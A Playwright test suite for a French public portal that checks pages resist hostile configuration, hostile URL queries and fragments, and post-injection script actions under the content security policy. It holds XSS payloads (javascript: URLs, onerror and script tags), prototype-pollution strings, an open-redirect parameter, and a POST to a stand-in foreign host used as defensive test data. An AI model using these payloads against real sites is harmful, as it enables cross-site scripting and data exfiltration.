/**
 * Attacks on a page: hostile configuration, hostile addresses, framing, opened windows. Hostile input to parsers is in
 * tests/unit/attacks.
 */
import type { Page } from 'playwright/test';
import { waitingButtons } from '../a11y/states.ts';
import { isFullRun } from '../support/full-run.ts';
import { inGroups } from '../support/groups.ts';
import { specifiedPages } from '../support/pages.ts';
import { sampleText } from '../unit/config/sample.ts';
import { expect, type Faults, keepFromLeaving, runUntil, stopClock, test } from './test.ts';

const hostileAddresses = [
  'javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'blob:http://localhost/1',
  'vbscript:x',
];

/**
 * Pages that `npm test` visits: one for each script that reads the address, and one of each layout. The audit visits
 * all.
 */
const readers = /gerer|valider|\/ear|non-autorise|identite-pivot|device|endAuth-FI/;
const visitedPages = specifiedPages.filter(({ path }) => isFullRun || readers.test(path));

/** A configuration in which every field is an attack. */
function hostileConfig() {
  const links = hostileAddresses.map((href) => ({
    libelle: '<img src=x onerror=alert(1)>',
    href,
  }));
  return {
    portailUrl: 'javascript:alert(1)',
    env: '<script>alert(1)</script>',
    header: [...links, { libelle: '<b>Texte</b>', href: '/sur' }],
    footer: links,
    simplePages: {
      googlePlayUrl: 'javascript:alert(1)',
      appStoreUrl: 'data:text/html,1',
      franceConnectUrl: 'javascript:alert(1)',
      googlePlayBadge: 'javascript:alert(1)',
      appStoreBadge: 'data:image/svg+xml,<svg onload=alert(1)>',
      googlePlayMessage: '<img src=x onerror=alert(1)>',
      appStoreMessage: 4,
      identityInfoUrl: 'javascript:alert(1)//',
    },
    embeddedApps: {
      gestionCompte: 'https://autre.example/app.js',
      validerAttest: 'data:text/javascript,alert(1)',
    },
  };
}

/** A dialog on a page is the success of an attack. */
const reportDialogs = (page: Page, faults: Faults) =>
  page.on('dialog', (dialog) => {
    faults.messages.push(`dialogue : ${dialog.message()}`);
    return dialog.dismiss();
  });

const configuredPages = visitedPages.filter(({ path }) => path !== '/ear');

for (const pages of inGroups(configuredPages, isFullRun ? configuredPages.length : 2))
  test(`the configuration cannot put hostile addresses or markup into ${pages.map(({ path }) => path).join(', ')}`, async ({
    page,
    setConfig,
    faults,
  }) => {
    faults.expected.push(/404/, /identityInfoUrl manque/);
    await stopClock(page);
    await setConfig(hostileConfig());
    reportDialogs(page, faults);
    for (const { path, layout } of pages) {
      await page.goto(path);
      // The layouts that show the menu redraw it from the hostile configuration.
      const isDrawn = () => page.locator('header').getByText('<b>Texte</b>').count().then(Boolean);
      if (layout === 'main') await runUntil(page, isDrawn);
      await page.clock.runFor(2000);
      await page.waitForLoadState('networkidle');
      const addresses = await page.evaluate(() =>
        [...document.querySelectorAll<HTMLElement>('[href], [src]')]
          .filter((element) => !element.matches('link[rel="icon"]'))
          .map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? ''),
      );
      const isSafe = (address: string) => /^(https?:|mailto:|tel:|#|\/|\.|[\w-]+\/)/.test(address);
      expect(
        addresses.filter((address) => !isSafe(address)),
        path,
      ).toEqual([]);
      expect(await page.locator('img[src="x"]').count(), path).toBe(0);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      // Proves that the hostile configuration was applied: its markup is shown as text.
      if (layout === 'main') await expect(page.locator('header')).toContainText('<b>Texte</b>');
    }
  });

/** Text that could run, close its element, hide or reverse the following text, or name a prototype. */
const hostileText =
  '"><img src=x onerror=alert(1)><script>alert(1)</script>\u202e\u200b\0&lt;__proto__';
const encoded = encodeURIComponent(hostileText);

/** Hostile queries and fragments, with parameters that the portal reads and with others. */
const hostileSuffixes = [
  `?identificationId=${encoded}&situation=${encoded}&redirect=https://autre.example&${encoded}=1&${'a'.repeat(6000)}=${'%00'.repeat(300)}#javascript:alert(1)`,
  `?situation=__proto__&droit=../..&identificationId=constructor&next=//autre.example#content"onfocus="alert(1)${encoded}`,
];

/** Returns in one string what an attack would change: title, text, links, and names of elements such as `script`. */
function contentOf(page: Page): Promise<string> {
  return page.evaluate(() =>
    [
      document.title,
      // An identifier, even a hostile one, gives a retry.
      document
        .querySelector('main')
        ?.textContent.replace('réessayer, ', '')
        .replace(/(?:Réessayer|Si vos données sont exactes, continuez\.)(?=Continuer)/, ''),
      ...[...document.querySelectorAll('a[href]')].map((link) => link.getAttribute('href')),
      ...[...document.querySelectorAll('script, img, iframe, style')].map(
        ({ localName }) => localName,
      ),
    ].join('\n'),
  );
}

/** Origin of the configured portal, the only other origin to which a page may redirect. */
const { origin: portail } = new URL(JSON.parse(sampleText).portailUrl);

for (const pages of inGroups(visitedPages, isFullRun ? visitedPages.length : 3))
  test(`hostile queries and fragments change nothing on ${pages.map(({ path }) => path).join(', ')}`, async ({
    page,
    faults,
    baseURL,
  }) => {
    // The identity service does not know the hostile identifiers.
    faults.expected.push(/Failed to load resource/, /identité : /);
    reportDialogs(page, faults);
    const destinations = await keepFromLeaving(page);
    for (const { path } of pages) {
      const contents: string[] = [];
      for (const suffix of ['', ...hostileSuffixes]) {
        await page.goto(`${path}${suffix}`, { waitUntil: 'networkidle' });
        // On a busy machine, the network can be idle before the form works.
        await expect(waitingButtons(page)).toHaveCount(0);
        contents.push(await contentOf(page));
      }
      expect(new Set(contents).size, contents.join('\n—\n')).toBe(1);
      if (path === '/ear')
        expect(destinations.filter((url) => /activation/.test(url))).toHaveLength(contents.length);
    }
    const elsewhere = destinations.filter((url) => new URL(url).origin !== baseURL);
    expect(elsewhere.filter((url) => new URL(url).origin !== portail)).toEqual([]);
  });

/**
 * Runs in the page: tries the next steps of an attacker who already runs a script. Returns the attempts that succeeded.
 */
async function tryEverything(): Promise<string[]> {
  const factory = globalThis as {
    trustedTypes?: { createPolicy: (name: string, rules: object) => unknown };
  };
  const attempts: Record<string, () => unknown> = {
    'écrire du HTML': () => document.body.insertAdjacentHTML('beforeend', '<b>texte</b>'),
    'écrire un gestionnaire': () => document.body.setAttribute('onclick', 'alert(1)'),
    'écrire un script': () => {
      document.createElement('script').text = 'alert(1)';
    },
    'charger un script d’ailleurs': () => {
      document.createElement('script').src = 'https://autre.example/a.js';
    },
    'démarrer un travailleur': () => new Worker(URL.createObjectURL(new Blob(['1']))),
    'créer une politique': () => factory.trustedTypes?.createPolicy('autre', {}),
    'envoyer ailleurs': () => fetch('https://autre.example/', { method: 'POST', body: 'x' }),
    'changer la base des adresses': () => {
      const base = document.createElement('base');
      base.href = 'https://autre.example/';
      document.head.append(base);
      if (document.baseURI === location.href) throw new Error('sans effet');
    },
  };
  const survived: string[] = [];
  for (const [name, attempt] of Object.entries(attempts))
    try {
      await attempt();
      survived.push(name);
    } catch {
      // The policy blocked the attempt.
    }
  return survived;
}

test('the policy of each layout blocks the next steps of an attack', async ({ page, faults }) => {
  faults.provoked.push(/.*/);
  for (const path of ['/gestion-compte/gerer', '/valider-attest', '/pages-simples/endAuth-FC']) {
    const before = faults.violations.length;
    await page.goto(path, { waitUntil: 'networkidle' });
    expect(await page.evaluate(tryEverything), path).toEqual([]);
    expect(faults.violations.length - before, path).toBeGreaterThan(6);
  }
});
